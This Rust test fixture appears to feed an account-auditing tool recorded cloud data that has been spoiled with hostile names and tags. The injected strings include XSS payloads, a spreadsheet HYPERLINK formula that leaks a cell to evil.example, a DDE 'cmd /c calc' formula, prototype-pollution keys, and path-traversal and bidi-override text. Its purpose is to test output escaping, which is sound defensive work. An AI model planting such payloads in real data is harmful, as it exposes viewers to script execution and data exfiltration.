//! A recorded account whose owner means harm: markup, scripts and marks that mislead, wherever a name can stand.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::program::copy_of;

/// What markup would do if it came to life.
pub const HARM: &str = "window.hacked=1";

/// Names of buckets in the recording, and what they are called instead.
pub const NAMES: [(&str, &str); 9] = [
    ("acme-bare", "</script><script>window.hacked=1</script>"),
    ("acme-public-acl", "<img src=x onerror=window.hacked=1>"),
    ("acme-public-write-acl", "\"><svg/onload=window.hacked=1>"),
    ("acme-any-aws-account-acl", "\u{202e}gpj.exe\u{1b}[31m\u{200b}{{constructor}}"),
    ("acme-partner-reads", "__proto__"),
    ("acme-tidy", "<!--<style>*{display:none}</style>"),
    ("acme-partner-rules", "=HYPERLINK(\"http://evil.example/?\"&A1);@SUM(1,1)"),
    ("acme-tls-writes-only", "@everyone `code` [text](http://evil.example) {0} ``` ]]>"),
    ("acme-vpce-only", "../../\u{ffff}\\\"} 1\n+1\t=1"),
];

/// `fixtures/accounts/mixed`, with such names, tags, request ids and error messages in it, and one name of a megabyte.
pub fn hostile() -> TempDir {
    let folder = copy_of("mixed");
    for path in json_files(folder.path()) {
        let mut file: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
        spoil(&mut file);
        fs::write(&path, file.to_string()).unwrap();
    }
    folder
}

fn json_files(folder: &Path) -> Vec<PathBuf> {
    let entries = fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path());
    let files = entries.flat_map(|path| if path.is_dir() { json_files(&path) } else { vec![path] });
    files.filter(|path| path.extension().is_some_and(|extension| extension == "json")).collect()
}

fn renamed(name: &str) -> String {
    if name == "acme-public-policy" {
        return "long ".repeat(200_000);
    }
    NAMES.iter().find(|(tame, _)| *tame == name).map_or(name, |(_, wild)| wild).to_owned()
}

fn spoil(value: &mut Value) {
    match value {
        Value::String(text) => *text = renamed(text),
        Value::Array(items) => items.iter_mut().for_each(spoil),
        Value::Object(fields) => {
            let spoilt = std::mem::take(fields).into_iter().map(|(key, mut value)| {
                match (key.as_str(), &mut value) {
                    ("Alias" | "RequestId", Value::String(text)) => *text = format!("<iframe srcdoc={HARM}>{text}"),
                    ("Detail", Value::String(text)) => text.insert_str(0, "<script>window.hacked=1</script>"),
                    ("Tags", Value::Object(tags)) => {
                        tags.insert("Owner".to_owned(), json!("<a href=javascript:window.hacked=1>=cmd|'/c calc'!A1"));
                        tags.insert("__proto__".to_owned(), json!("polluted"));
                    }
                    (_, value) => spoil(value),
                }
                (renamed(&key), value)
            });
            *fields = spoilt.collect();
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}
